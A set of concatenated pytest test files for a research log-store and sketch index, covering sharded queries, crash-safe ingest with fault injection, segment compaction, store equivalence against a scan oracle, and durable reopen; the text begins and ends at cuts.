    """The sharded probe path (full suite: tests/test_distributed.py)
    answers a wave bit-identically to its own host oracle on whatever
    mesh is visible."""
    from repro.core.batch_builder import build_sealed
    from repro.core.distributed import ShardedQueryEngine
    from repro.core.immutable_sketch import build_immutable
    fps = (rng.integers(0, 500, 4000).astype(np.uint64)
           * 2654435761 % (1 << 32)).astype(np.uint32)
    posts = rng.integers(0, 40, 4000).astype(np.int64)
    segs = [build_immutable(build_sealed(fps[i::2], posts[i::2]))
            for i in range(2)]
    eng = ShardedQueryEngine(segs, n_postings=40)
    uniq = np.unique(fps)
    queries = [[int(x) for x in uniq[:3]], [int(uniq[4])]]
    got = eng.query_fps_batch(queries)
    for q, g in zip(queries, got):
        np.testing.assert_array_equal(g, eng.host_query(q))


# ------------------------------------------------------------ dryrun utils
def test_collective_parser():
    from repro.launch.dryrun import parse_collectives
    hlo = """
      %ar = bf16[64,128]{1,0} all-reduce(%x), replica_groups={}
      %ag.1 = f32[256]{0} all-gather(%y), dimensions={0}
      %junk = f32[2] add(%a, %b)
      %rs = (f32[16], f32[16]) reduce-scatter(%z, %w)
    """
    st = parse_collectives(hlo)
    assert st["per_op"]["all-reduce"]["count"] == 1
    assert st["per_op"]["all-reduce"]["bytes"] == 64 * 128 * 2
    assert st["per_op"]["all-gather"]["bytes"] == 256 * 4
    assert st["per_op"]["reduce-scatter"]["bytes"] == 2 * 16 * 4
    # wire model: AR counts 2x
    assert st["wire_bytes_per_device"] == (2 * 64 * 128 * 2
                                           + 256 * 4 + 2 * 16 * 4)


def test_roofline_terms_math():
    from repro.launch.dryrun import roofline_terms
    t = roofline_terms(197e12, 819e9, 50e9, 256)
    assert abs(t["compute_s"] - 1.0) < 1e-9
    assert abs(t["memory_s"] - 1.0) < 1e-9
    assert abs(t["collective_s"] - 1.0) < 1e-9


def test_analysis_variant_divisibility():
    from repro.configs import get_arch
    from repro.launch.steps import analysis_variant
    spec = get_arch("arctic-480b")
    spec2, shape2, scale = analysis_variant(spec, "train_4k", 2)
    assert spec2.config.n_layers == 2
    assert not spec2.config.scan_layers
    assert shape2.dims["batch"] * scale == 256


# ---------------------------------------------------------- data pipeline
def test_pipeline_deterministic_resume(small_dataset):
    from repro.data import LMTokenPipeline
    p1 = LMTokenPipeline(small_dataset.lines, vocab=512, batch=4, seq=16,
                         seed=7)
    p2 = LMTokenPipeline(small_dataset.lines, vocab=512, batch=4, seq=16,
                         seed=7)
    # any step reproducible from (seed, step): exact resume + elasticity
    for step in (0, 5, 17):
        a, b = p1.batch_at(step), p2.batch_at(step)
        np.testing.assert_array_equal(a["tokens"], b["tokens"])
        np.testing.assert_array_equal(a["labels"], b["labels"])
    assert p1.batch_at(1)["tokens"].shape == (4, 16)
    assert (p1.batch_at(0)["tokens"] != p1.batch_at(1)["tokens"]).any()


def test_sketch_filtered_corpus(small_dataset):
    from repro.data import SketchFilteredCorpus
    from repro.logstore.store import DynaWarpStore
    store = DynaWarpStore(batch_lines=64)
    store.ingest(small_dataset.lines)
    store.finish()
    sel = SketchFilteredCorpus(store, include_terms=("error",))
    batches = sel.selected_batches()
    assert 0 < len(batches) < store.n_batches
    # every selected shard really contains the term (post-filter truth)
    got_lines = list(sel.lines())
    assert got_lines and any("ERROR" in l or "error" in l
                             for l in got_lines)
    # exclusion removes those shards
    none = SketchFilteredCorpus(store, include_terms=("error",),
                                exclude_terms=("error",))
    assert len(none.selected_batches()) == 0
