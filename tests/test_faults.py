"""Crash-safe live ingest: fault injection, crash-matrix recovery,
reopen-for-append, and concurrent readers.

The contract under test (ISSUE 6):
  * the manifest publishes at every spill, so killing the process at ANY
    registered crashpoint loses at most the data since the last spill;
  * ``DynaWarpStore.open()`` of the crashed directory yields a store
    whose term / contains / batched answers are bit-identical to a scan
    oracle over the recovered prefix (= the last manifested batch
    boundary);
  * reopen-for-append + ``finish()`` then converges to the uncrashed
    run's answers;
  * a reader thread snapshotting mid-ingest always sees a complete
    published prefix — no torn reads — on the 1-device and the forced
    8-way host-mesh paths;
  * the background compaction worker retries transient errors with
    backoff and surfaces persistent ones at ``wait_compaction()``.

Run via ``make test-faults`` (executes this file on 1 device and on the
forced 8-way host mesh).

CI-hang guards: every dataset/query input is deterministically seeded
(fixtures use fixed seeds; no test draws from an unseeded RNG), worker
threads are daemonic with deadline-bounded loops, and every ``join``/
``wait`` carries an explicit timeout followed by a liveness assert —
a wedged thread fails the test instead of hanging the suite.
"""
import os
import threading
import time

import numpy as np
import pytest

from repro.core import faults
from repro.logstore.store import DynaWarpStore, ScanStore

TIMEOUT = 300           # ceiling for any single blocking wait (seconds)
KW = dict(batch_lines=64, mode="segmented", memory_limit_bytes=1 << 14,
          auto_compact=False)


@pytest.fixture(scope="module")
def scan_oracle(small_dataset):
    s = ScanStore(batch_lines=64)
    s.ingest(small_dataset.lines)
    s.finish()
    return s


def _terms(ds):
    from repro.logstore.datasets import present_id_queries
    return present_id_queries(ds, 3, 3) + ["info", "connection"]


def _prefix(matches, n_lines):
    return [m for m in matches if m < n_lines]


def _assert_oracle_prefix(store, scan, terms, n_lines):
    """term / contains / query_term_batch bit-identical to the scan
    oracle over the first ``n_lines`` lines."""
    for t in terms:
        assert store.query_term(t).matches \
            == _prefix(scan.query_term(t).matches, n_lines), t
    sub = terms[0][2:14]
    assert store.query_contains(sub).matches \
        == _prefix(scan.query_contains(sub).matches, n_lines)
    for t, r in zip(terms, store.query_term_batch(terms)):
        assert r.matches == _prefix(scan.query_term(t).matches, n_lines), t


# ------------------------------------------------------------- injector
def test_injector_rejects_unknown_crashpoint():
    with pytest.raises(ValueError):
        faults.FaultInjector(crash_at="not.a.point")


def test_injector_after_times_and_error_modes(tmp_path):
    """after= skips hits, times= bounds firings, error= substitutes the
    exception; hits record every arrival at the armed point."""
    from repro.logstore.blobfile import BlobFile
    p = str(tmp_path / "b.dat")
    bf = BlobFile(p)
    with faults.inject(crash_at="blob.append", after=1,
                       error=OSError("EIO"), times=1) as inj:
        bf.append(b"first")                   # hit 1: skipped by after=
        with pytest.raises(OSError):
            bf.append(b"second")              # hit 2: fires
        bf.append(b"third")                   # hit 3: times=1 exhausted
    assert inj.hits == [1, 2, 3] and inj.fired == 1
    assert [bf[i] for i in range(len(bf))] == [b"first", b"third"]
    bf.close()


def test_torn_blob_append_leaves_partial_tail(tmp_path):
    """The blob.append.torn crashpoint writes PART of the blob before
    raising — exactly the state a mid-write kill leaves — and reopening
    with the published extents truncates it away."""
    from repro.logstore.blobfile import BlobFile
    p = str(tmp_path / "b.dat")
    bf = BlobFile(p)
    bf.append(b"published-blob")
    exts = list(bf.extents)
    size_before = os.path.getsize(p)
    with faults.inject(crash_at="blob.append.torn"):
        with pytest.raises(faults.CrashError):
            bf.append(b"torn-away-blob")
    assert os.path.getsize(p) > size_before      # torn bytes on disk
    assert list(bf.extents) == exts              # but never published
    bf.close()
    re = BlobFile(p, extents=exts)
    assert os.path.getsize(p) == exts[-1][0] + exts[-1][1]
    assert re[0] == b"published-blob"
    re.close()


def test_blob_sync_fsyncs_directory_once(tmp_path, monkeypatch):
    """fsync=True blob publication must fsync the containing directory
    (a new file's directory entry is not persisted by fsyncing the file
    itself) — once is enough, the entry does not move."""
    from repro.logstore import blobfile
    calls = []
    monkeypatch.setattr(blobfile, "fsync_dir",
                        lambda path: calls.append(path))
    bf = blobfile.BlobFile(str(tmp_path / "b.dat"), fsync=True)
    bf.append(b"x")
    bf.sync()
    bf.append(b"y")
    bf.sync()
    assert calls == [str(tmp_path)]
    bf.close()


# ----------------------------------------------------------- crash matrix
INGEST_POINTS = tuple(p for p in faults.CRASHPOINTS
                      if p != "compact.mid_merge")


@pytest.mark.parametrize("crashpoint", INGEST_POINTS)
def test_crash_matrix_recovers_to_last_publish(crashpoint, small_dataset,
                                               scan_oracle, tmp_path):
    """Kill the ingest at every registered crashpoint; open() must
    recover bit-identical answers over the last manifested prefix, and
    resume-append + finish() must converge to the uncrashed results."""
    import json
    from repro.logstore.store import MANIFEST_NAME
    d = str(tmp_path / "crash")
    s = DynaWarpStore(**KW, path=d, fsync=True)
    with faults.inject(crash_at=crashpoint, after=2) as inj:
        with pytest.raises(faults.CrashError):
            s.ingest(small_dataset.lines)
            s.finish()
    assert inj.fired == 1 and len(inj.hits) >= 3
    s.blobs.close()          # the dead process's fd

    terms = _terms(small_dataset)
    mpath = os.path.join(d, MANIFEST_NAME)
    if not os.path.exists(mpath):
        # crashed before the first publish: open() must refuse honestly
        with pytest.raises(FileNotFoundError):
            DynaWarpStore.open(d)
        return
    with open(mpath) as f:
        man = json.load(f)
    assert man["finished"] is False

    re = DynaWarpStore.open(d)
    # at most the data since the last spill is lost: the recovered count
    # IS the last manifested batch boundary
    assert re._n_lines == man["n_lines"] == man["batch_start"][-1] > 0
    assert not re._finished
    _assert_oracle_prefix(re, scan_oracle, terms, re._n_lines)

    # reopen-for-append: ingest the lost tail, finish, converge
    re.ingest(small_dataset.lines[re._n_lines:])
    re.finish()
    re.finish()              # idempotent across the crash boundary
    _assert_oracle_prefix(re, scan_oracle, terms, len(small_dataset.lines))
    re.close()

    # the finished state survives one more reopen
    re2 = DynaWarpStore.open(d)
    assert re2._finished
    _assert_oracle_prefix(re2, scan_oracle, terms, len(small_dataset.lines))
    re2.close()


def test_crash_mid_compaction_keeps_pre_crash_state(small_dataset,
                                                    scan_oracle, tmp_path):
    """compact.mid_merge: kill after the merge but before the publish —
    recovery serves the pre-compaction state bit-identically, and a
    clean compaction afterwards converges."""
    d = str(tmp_path / "crash_compact")
    s = DynaWarpStore(**KW, path=d, fsync=True)
    s.ingest(small_dataset.lines)
    s.finish()
    n_segs = len(s.segments)
    s.close()
    terms = _terms(small_dataset)

    crashing = DynaWarpStore.open(d)
    with faults.inject(crash_at="compact.mid_merge") as inj:
        with pytest.raises(faults.CrashError):
            crashing.compact(fanout=2)
    assert inj.fired == 1
    crashing.blobs.close()

    re = DynaWarpStore.open(d)
    assert len(re.segments) == n_segs           # pre-crash state intact
    _assert_oracle_prefix(re, scan_oracle, terms, len(small_dataset.lines))
    assert re.compact(fanout=2) > 0
    _assert_oracle_prefix(re, scan_oracle, terms, len(small_dataset.lines))
    re.close()


def test_transient_publish_error_resumes_in_process(small_dataset,
                                                    scan_oracle, tmp_path):
    """An injected transient I/O error (not a kill) fails one mid-ingest
    publish; the SAME store object resumes from its own counters and the
    next publish self-heals — no reopen needed."""
    d = str(tmp_path / "transient")
    s = DynaWarpStore(**KW, path=d)
    boom = OSError("transient EIO")
    with faults.inject(crash_at="manifest.replace", after=1, times=1,
                       error=boom):
        with pytest.raises(OSError):
            s.ingest(small_dataset.lines)
    done = s._n_lines                    # flushed-and-indexed watermark
    assert 0 < done < len(small_dataset.lines)
    s.ingest(small_dataset.lines[done:])
    s.finish()
    _assert_oracle_prefix(s, scan_oracle, _terms(small_dataset),
                          len(small_dataset.lines))
    s.close()


# ----------------------------------------------------- queries during ingest
def test_live_queries_match_oracle_prefix(small_dataset, scan_oracle):
    """Direct queries on an UNFINISHED segmented store (RAM) are exact
    over every flushed batch — sealed temporaries + live tail probe."""
    s = DynaWarpStore(**KW)
    terms = _terms(small_dataset)
    step = len(small_dataset.lines) // 4
    for start in range(0, len(small_dataset.lines), step):
        s.ingest(small_dataset.lines[start:start + step])
        flushed = s.batch_start[len(s.blobs)]
        _assert_oracle_prefix(s, scan_oracle, terms, flushed)
    s.finish()
    _assert_oracle_prefix(s, scan_oracle, terms, len(small_dataset.lines))


def test_ram_snapshot_covers_last_spill(small_dataset, scan_oracle):
    """RAM stores sync their segment view lazily at snapshot(): the
    snapshot covers the last spill's prefix and stays frozen while the
    writer ingests past it."""
    s = DynaWarpStore(**KW)
    half = len(small_dataset.lines) // 2
    s.ingest(small_dataset.lines[:half])
    snap = s.snapshot()
    assert 0 < snap.n_lines <= half
    assert snap.n_batches == s._covered_batches == s._spill_covered
    assert snap.n_lines == snap.batch_start[-1]
    s.ingest(small_dataset.lines[half:])
    s.finish()
    terms = _terms(small_dataset)
    for t, r in zip(terms, snap.query_term_batch(terms)):
        assert r.matches == _prefix(scan_oracle.query_term(t).matches,
                                    snap.n_lines)
    # a fresh snapshot of the finished store covers everything
    full = s.snapshot()
    assert full.n_lines == len(small_dataset.lines)


@pytest.mark.parametrize("shard_axes", [None, ("data",)],
                         ids=["engine", "sharded"])
def test_concurrent_reader_sees_consistent_snapshots(small_dataset,
                                                     scan_oracle, tmp_path,
                                                     shard_axes):
    """A reader thread runs query_term_batch on snapshots while the
    writer ingests and publishes per spill: every result must equal the
    scan oracle over that snapshot's manifested prefix (no torn reads,
    no partially visible segments).  Parametrized over the single-device
    and sharded engines; ``make test-faults`` re-runs both on the forced
    8-way host mesh."""
    d = str(tmp_path / "concurrent")
    s = DynaWarpStore(**KW, path=d, shard_axes=shard_axes)
    terms = _terms(small_dataset)
    truth = {t: scan_oracle.query_term(t).matches for t in terms}
    errors: list = []
    checks = [0]
    done = threading.Event()
    deadline = time.monotonic() + TIMEOUT

    def reader():
        # bounded loop: runs until the writer finishes (plus one check
        # minimum) but never past the deadline, even if the writer hangs
        while (not done.is_set() or checks[0] == 0) \
                and time.monotonic() < deadline:
            snap = s.snapshot()
            try:
                results = snap.query_term_batch(terms)
            except Exception as e:          # pragma: no cover - failure path
                errors.append(repr(e))
                return
            for t, r in zip(terms, results):
                if r.matches != _prefix(truth[t], snap.n_lines):
                    errors.append((t, snap.n_lines))
                    return
            checks[0] += 1

    rt = threading.Thread(target=reader, daemon=True)
    rt.start()
    try:
        for i in range(0, len(small_dataset.lines), 100):
            s.ingest(small_dataset.lines[i:i + 100])
        s.finish()
    finally:
        done.set()
        rt.join(timeout=TIMEOUT)
    assert not rt.is_alive(), "reader thread wedged"
    assert not errors, errors[:3]
    assert checks[0] > 0
    s.close()


# ------------------------------------------------------ compaction worker
def test_worker_retries_transient_error_with_backoff(small_dataset,
                                                     tmp_path):
    """A transient failure mid-merge self-heals: the worker retries with
    backoff and the compaction lands; nothing surfaces at wait()."""
    d = str(tmp_path / "retry")
    s = DynaWarpStore(**KW, path=d, background_compact=True,
                      compact_retry=3, compact_backoff_s=0.01)
    s.ingest(small_dataset.lines)
    s.finish()
    n0 = len(s.segments)
    with faults.inject(crash_at="compact.mid_merge",
                       error=OSError("transient EIO"), times=1) as inj:
        s.request_compact(fanout=2)
        merges = s.wait_compaction(timeout=TIMEOUT)
    assert inj.fired == 1
    assert merges > 0 and len(s.segments) < n0
    assert s._worker.retries >= 1
    assert isinstance(s._worker.last_error, OSError)
    s.close()


def test_worker_surfaces_persistent_error_and_survives(small_dataset,
                                                       tmp_path,
                                                       scan_oracle):
    """When every retry fails, the LAST error surfaces at
    wait_compaction() — and the worker thread stays alive for the next
    job instead of dying silently."""
    d = str(tmp_path / "persistent")
    s = DynaWarpStore(**KW, path=d, background_compact=True,
                      compact_retry=2, compact_backoff_s=0.01)
    s.ingest(small_dataset.lines)
    s.finish()
    with faults.inject(crash_at="compact.mid_merge",
                       error=OSError("disk on fire")) as inj:
        s.request_compact(fanout=2)
        with pytest.raises(OSError, match="disk on fire"):
            s.wait_compaction(timeout=TIMEOUT)
    assert inj.fired == 3                      # first try + 2 retries
    assert s._worker.retries == 2
    # the worker survived: a clean job still lands
    n0 = len(s.segments)
    s.request_compact(fanout=2)
    assert s.wait_compaction(timeout=TIMEOUT) > 0
    assert len(s.segments) < n0
    _assert_oracle_prefix(s, scan_oracle, _terms(small_dataset),
                          len(small_dataset.lines))
    s.close()
