"""Cold-segment compaction: size-tiered merging must keep query results
bit-identical, bound segment fan-out at O(log n), and re-upload device
caches exactly once per compacted segment."""
import numpy as np
import pytest

from repro.core.immutable_sketch import ImmutableSketch
from repro.core.segment import SegmentWriter, tiered_merge
from repro.logstore.store import DynaWarpStore


def _segmented_store(small_dataset, **kw):
    kw.setdefault("batch_lines", 64)
    kw.setdefault("mode", "segmented")
    kw.setdefault("memory_limit_bytes", 1 << 14)
    s = DynaWarpStore(**kw)
    s.ingest(small_dataset.lines)
    s.finish()
    return s


# ------------------------------------------------------------ tiered merge
def test_tiered_merge_bounds_item_count():
    """N same-size inserts must converge to O(log N) surviving items."""
    items: list = []
    n = 64
    for _ in range(n):
        items.append(1)
        items, _ = tiered_merge(items, size_of=lambda x: x,
                                merge=lambda g: sum(g), fanout=2)
    assert sum(items) == n
    assert len(items) <= int(np.log2(n)) + 1

    # fanout <= 1 disables compaction entirely
    items, merges = tiered_merge([1] * 10, size_of=lambda x: x,
                                 merge=lambda g: sum(g), fanout=1)
    assert merges == 0 and len(items) == 10


def test_writer_tiering_bounds_temporaries(rng):
    fps = (rng.integers(0, 4000, 30000).astype(np.uint64)
           * 2654435761 % (1 << 32)).astype(np.uint32)
    posts = rng.integers(0, 64, 30000).astype(np.int64)
    w = SegmentWriter(memory_limit_bytes=1 << 13, compact_fanout=2)
    for i in range(0, len(fps), 250):
        w.add_fingerprint_batch(fps[i:i + 250], posts[i:i + 250])
    assert w.n_spills >= 8
    assert w.n_compactions > 0
    assert len(w.temporaries) <= int(np.log2(w.n_spills)) + 2


# -------------------------------------------------------------- properties
def test_compaction_query_results_bit_identical(small_dataset):
    """Property (ISSUE 2 satellite): query_term and query_term_batch
    results are bit-identical before and after compaction."""
    from repro.logstore.datasets import id_queries, present_id_queries
    s = _segmented_store(small_dataset, compact_fanout=16,
                         auto_compact=False)
    assert len(s.segments) > 2
    terms = (present_id_queries(small_dataset, 5, 8) + id_queries(9, 4)
             + ["info", "gc", "connection"])
    before = [s.query_term(t).matches for t in terms]
    before_batch = [r.matches for r in s.query_term_batch(terms)]
    n_pre = len(s.segments)
    merges = s.compact(fanout=2)
    assert merges > 0
    assert len(s.segments) < n_pre
    after = [s.query_term(t).matches for t in terms]
    after_batch = [r.matches for r in s.query_term_batch(terms)]
    assert before == after
    assert before_batch == after_batch
    assert after == after_batch


def test_compaction_bounds_segment_count(small_dataset):
    """Forced compaction keeps segment count <= O(log n spills)."""
    s = _segmented_store(small_dataset, compact_fanout=2)
    n_spills = max(s._writer.n_spills, 2)
    assert len(s.segments) <= int(np.log2(n_spills)) + 2


def test_compacted_segments_reupload_exactly_once(small_dataset,
                                                  monkeypatch):
    """Device caches: unchanged segments keep their upload, each newly
    merged segment uploads exactly once on the first post-compaction
    wave."""
    from repro.logstore.datasets import present_id_queries
    s = _segmented_store(small_dataset, compact_fanout=16,
                         auto_compact=False)
    terms = present_id_queries(small_dataset, 5, 6)
    s.query_term_batch(terms)  # upload every pre-compaction segment

    calls = {"n": 0}
    orig = ImmutableSketch.device_arrays

    def counting(self):
        calls["n"] += 1
        return orig(self)

    monkeypatch.setattr(ImmutableSketch, "device_arrays", counting)
    s.query_term_batch(terms)
    assert calls["n"] == 0, "pre-compaction caches must be warm"

    pre = {id(seg) for seg in s.segments}
    s.compact(fanout=2)
    n_new = sum(1 for seg in s.segments if id(seg) not in pre)
    assert n_new > 0
    s.query_term_batch(terms)
    assert calls["n"] == n_new, "each merged segment uploads exactly once"
    calls["n"] = 0
    s.query_term_batch(terms)
    assert calls["n"] == 0, "caches stay warm after the first wave"


def test_compaction_requires_sealed_sources(small_dataset):
    # single-segment stores no-op
    s = DynaWarpStore(batch_lines=64, mode="batch")
    s.ingest(small_dataset.lines[:200])
    s.finish()
    assert s.compact() == 0
    # multi-segment stores must refuse when sources were dropped
    m = _segmented_store(small_dataset, compact_fanout=16,
                         auto_compact=False)
    assert len(m.segments) > 1
    for seg in m.segments:
        seg.sealed_source = None
    with pytest.raises(ValueError):
        m.compact(fanout=2)


def test_auto_compact_runs_at_finish(small_dataset):
    """With auto_compact (default), finish() leaves no size tier holding
    >= compact_fanout segments (the tiered-merge fixed point)."""
    from repro.core.segment import _tier
    s = _segmented_store(small_dataset, compact_fanout=2)
    tiers: dict[int, int] = {}
    for seg in s.segments:
        t = _tier(seg.size_bytes())
        tiers[t] = tiers.get(t, 0) + 1
    assert all(n < 2 for n in tiers.values()), tiers
