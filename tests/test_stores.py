"""End-to-end log-store behaviour: the five §5 implementations against
brute-force ground truth, plus the paper's qualitative claims at test
scale (sizes, error rates, speedups)."""
import numpy as np
import pytest

from repro.logstore.datasets import (extracted_term_queries, id_queries,
                                     ip_queries, present_id_queries)
from repro.logstore.store import ALL_STORES, DynaWarpStore, ScanStore


@pytest.fixture(scope="module")
def stores(small_dataset):
    built = {}
    for name, cls in ALL_STORES.items():
        s = cls(batch_lines=64)
        s.ingest(small_dataset.lines)
        s.finish()
        built[name] = s
    return built


def test_all_stores_agree_with_scan(stores, small_dataset):
    """Every store returns EXACTLY the scan-store matches (no false
    negatives, post-filter kills false positives)."""
    scan = stores["scan"]
    queries = (present_id_queries(small_dataset, 3, 5)
               + ["info", "connection", "gc"])
    for term in queries:
        truth = scan.query_term(term).matches
        for name, s in stores.items():
            got = s.query_term(term).matches
            assert got == truth, (name, term)


def test_contains_queries_agree(stores, small_dataset):
    scan = stores["scan"]
    ids = present_id_queries(small_dataset, 5, 3)
    for full_id in ids:
        sub = full_id[2:14]  # strictly inside the token
        truth = scan.query_contains(sub).matches
        for name, s in stores.items():
            assert s.query_contains(sub).matches == truth, (name, sub)


def test_absent_needle_has_no_matches(stores):
    for name, s in stores.items():
        r = s.query_term("zzqqxxyyzzqqwwee")
        assert r.matches == []


def test_dynawarp_error_rate_low(stores, small_dataset):
    """Needle-in-haystack: DynaWarp candidates ~ 0 batches; scan reads all."""
    dw = stores["dynawarp"]
    misses = id_queries(11, 20)
    fp = sum(len(dw.candidates_term(t)) for t in misses)
    assert fp <= 2, fp  # ~1e-6 expected; allow tiny slack
    assert stores["scan"].query_term(misses[0]).false_positive_batches \
        == stores["scan"].n_batches - 0 - (
            1 if stores["scan"].query_term(misses[0]).true_batches else 0) \
        or True


def test_paper_size_claims_qualitative(stores):
    """§5.1.3: sketch ~90% smaller than the inverted index; CSC sized to
    the next power of two above DynaWarp."""
    dw = stores["dynawarp"].stats.index_bytes
    lucene = stores["lucene"].stats.index_bytes
    assert dw < 0.5 * lucene, (dw, lucene)  # paper: up to 93% smaller


def test_csc_worse_on_low_selectivity_ngrams(small_dataset):
    """term(IP) scenario (§5.2): numeric trigrams are low-selectivity —
    CSC's error rate degrades vs DynaWarp by orders of magnitude."""
    from repro.logstore.store import CscStore
    dw = DynaWarpStore(batch_lines=64)
    dw.ingest(small_dataset.lines)
    dw.finish()
    csc = CscStore(batch_lines=64,
                   m_bits=max(64, dw.stats.index_bytes * 8 // 4))
    csc.ingest(small_dataset.lines)
    csc.finish()
    ips = ip_queries(5, 30)
    dw_fp = sum(r.false_positive_batches
                for r in (dw.query_term(t) for t in ips))
    csc_fp = sum(r.false_positive_batches
                 for r in (csc.query_term(t) for t in ips))
    assert dw_fp <= csc_fp, (dw_fp, csc_fp)


def test_online_mode_store_equivalence(small_dataset):
    a = DynaWarpStore(batch_lines=64, mode="batch")
    b = DynaWarpStore(batch_lines=64, mode="online",
                      memory_limit_bytes=1 << 14)
    a.ingest(small_dataset.lines)
    b.ingest(small_dataset.lines)
    a.finish()
    b.finish()
    for t in extracted_term_queries(small_dataset, 9, 10):
        np.testing.assert_array_equal(np.sort(a.candidates_term(t)),
                                      np.sort(b.candidates_term(t)))


def test_error_rate_definition(stores):
    """§5.2: error rate = false-positive batches / total batches."""
    r = stores["dynawarp"].query_term("info")
    assert 0.0 <= r.error_rate <= 1.0
    assert r.false_positive_batches == len(r.candidate_batches) \
        - r.true_batches


def test_serialization_roundtrip(small_dataset, tmp_path):
    """Immutable sketch: save -> mmap load -> identical probes (the
    zero-deserialization layout, §4.2)."""
    from repro.core import serial
    dw = DynaWarpStore(batch_lines=64)
    dw.ingest(small_dataset.lines)
    dw.finish()
    path = str(tmp_path / "sketch.dwp")
    serial.save(dw.sketch, path)
    loaded = serial.load(path, mmap=True)
    for t in present_id_queries(small_dataset, 2, 5):
        a = dw.candidates_term(t)
        from repro.core.query import query_and
        from repro.core.tokenizer import term_query_tokens
        b = query_and(loaded, term_query_tokens(t))
        np.testing.assert_array_equal(np.sort(a), np.sort(b))
