"""Durable segment store (§4.2): manifest-based on-disk lifecycle.

Covers the acceptance contract end to end:
  * a store ingested with ``path=...``, closed, and reopened answers
    term / contains / ``query_term_batch`` / sharded queries
    bit-identically to the never-closed in-RAM store,
  * segments are served from ``np.memmap`` (no full-file reads on open),
  * device caches key on durable segment ids — a reopened store
    re-uploads nothing the process already staged,
  * crash recovery: a kill between segment-file write and manifest swap
    (and mid-compaction) recovers the pre-crash state with orphans GC'd,
  * compaction — foreground and background — preserves equivalence
    through the atomic manifest swap,
  * segment-file fidelity: stats and plane presence/geometry round-trip
    exactly, with explicit errors on mismatch.
"""
import json
import os

import numpy as np
import pytest

from repro.core import serial
from repro.logstore.blobfile import BlobFile
from repro.logstore.store import (DynaWarpStore, MANIFEST_NAME, ScanStore)
from repro.logstore.datasets import present_id_queries

SEG_KW = dict(batch_lines=64, mode="segmented", memory_limit_bytes=1 << 14,
              auto_compact=False)


def _queries(ds):
    return present_id_queries(ds, 3, 5) + ["info", "connection",
                                           "zzqqabsentzzqq"]


def _answers(store, queries):
    return [store.query_term(t).matches for t in queries]


@pytest.fixture(scope="module")
def ram_store(small_dataset):
    s = DynaWarpStore(**SEG_KW)
    s.ingest(small_dataset.lines)
    s.finish()
    return s


@pytest.fixture(scope="module")
def durable_dir(small_dataset, tmp_path_factory):
    """A published durable store directory (ingested once per module)."""
    d = str(tmp_path_factory.mktemp("dwstore"))
    s = DynaWarpStore(**SEG_KW, path=d)
    s.ingest(small_dataset.lines)
    s.finish()
    s.close()
    return d


# ---------------------------------------------------------------- reopen
def test_reopen_is_bit_identical(ram_store, durable_dir, small_dataset):
    """Fresh open() == never-closed in-RAM store on every query type."""
    re = DynaWarpStore.open(durable_dir)
    qs = _queries(small_dataset)
    assert len(re.segments) == len(ram_store.segments)
    assert re.n_batches == ram_store.n_batches
    # term (scalar host path) + candidate sets
    for t in qs:
        np.testing.assert_array_equal(
            np.sort(ram_store.candidates_term(t)),
            np.sort(re.candidates_term(t)))
        assert re.query_term(t).matches == ram_store.query_term(t).matches
    # contains (n-gram tokens across borders)
    for full_id in qs[:3]:
        sub = full_id[2:14]
        assert re.query_contains(sub).matches \
            == ram_store.query_contains(sub).matches
    # batched device wave
    for a, b in zip(ram_store.candidates_term_batch(qs),
                    re.candidates_term_batch(qs)):
        np.testing.assert_array_equal(np.sort(a), np.sort(b))
    # the scan oracle agrees too (no false negatives through the reopen)
    scan = ScanStore(batch_lines=64)
    scan.ingest(small_dataset.lines)
    scan.finish()
    for t in qs:
        assert re.query_term(t).matches == scan.query_term(t).matches


def test_reopen_serves_segments_from_memmap(durable_dir):
    """mmap=True must NOT read segment payloads up front."""
    re = DynaWarpStore.open(durable_dir, mmap=True)
    for seg in re.segments:
        assert isinstance(seg.signatures, np.memmap)
        assert isinstance(seg.bic_bits, np.memmap)
        assert seg.planes is None or isinstance(seg.planes, np.memmap)
        # sealed sources stay disk-resident too: each posting list is a
        # lazy view into the memmapped flat column
        assert seg.sealed_source is not None
        assert all(isinstance(l, np.memmap) for l in seg.sealed_source.lists)
    eager = DynaWarpStore.open(durable_dir, mmap=False)
    assert not isinstance(eager.segments[0].signatures, np.memmap)


def test_reopen_sharded_is_bit_identical(ram_store, durable_dir,
                                         small_dataset):
    """Sharded engine over a reopened store == in-RAM single-device."""
    re = DynaWarpStore.open(durable_dir, shard_axes=("data",))
    qs = _queries(small_dataset)
    for a, b in zip(ram_store.candidates_term_batch(qs),
                    re.candidates_term_batch(qs)):
        np.testing.assert_array_equal(np.sort(a), np.sort(b))


def _fresh_durable_dir(small_dataset, tmp_path) -> str:
    """A private store directory whose durable ids no other test's waves
    have staged yet (the device-cache registries are process-global)."""
    d = str(tmp_path / "fresh_store")
    s = DynaWarpStore(**SEG_KW, path=d)
    s.ingest(small_dataset.lines)
    s.finish()
    s.close()
    return d


def test_durable_id_device_cache_keying(small_dataset, tmp_path):
    """Second open() in the same process re-uploads nothing: caches key on
    (file path + generation), not object identity."""
    d = _fresh_durable_dir(small_dataset, tmp_path)
    qs = _queries(small_dataset)
    first = DynaWarpStore.open(d)
    first.candidates_term_batch(qs)     # stages every plane segment
    assert first.engine.upload_count == len(first.engine._plane_segs) > 0
    again = DynaWarpStore.open(d)
    res = again.candidates_term_batch(qs)
    assert again.engine.upload_count == 0
    for a, b in zip(first.candidates_term_batch(qs), res):
        np.testing.assert_array_equal(np.sort(a), np.sort(b))


def test_durable_id_sharded_row_cache_keying(small_dataset, tmp_path):
    """The sharded engine's per-(layout, device) rows also key durably."""
    d = _fresh_durable_dir(small_dataset, tmp_path)
    qs = _queries(small_dataset)
    first = DynaWarpStore.open(d, shard_axes=("data",))
    first.candidates_term_batch(qs)
    assert first.engine.upload_count == len(first.engine._plane_segs) > 0
    again = DynaWarpStore.open(d, shard_axes=("data",))
    again.candidates_term_batch(qs)
    assert again.engine.upload_count == 0


def test_open_refuses_unpublished_and_double_create(tmp_path, durable_dir):
    with pytest.raises(FileNotFoundError):
        DynaWarpStore.open(str(tmp_path / "nothing_here"))
    with pytest.raises(ValueError):
        DynaWarpStore(**SEG_KW, path=durable_dir)  # already published


# ------------------------------------------------------- crash recovery
def test_crash_between_segment_write_and_manifest_swap(small_dataset,
                                                       tmp_path, ram_store):
    """Kill at the FIRST publish boundary (now the first spill, since
    live ingest publishes per spill): segment files exist but no manifest
    was ever swapped in — nothing was published, open() says so instead
    of serving a half-written store, and re-creating a store at the path
    sweeps the stale files."""
    d = str(tmp_path / "crash_first_publish")
    s = DynaWarpStore(**SEG_KW, path=d)

    def boom(manifest):
        raise OSError("simulated kill at publish")
    s._swap_manifest = boom
    with pytest.raises(OSError):
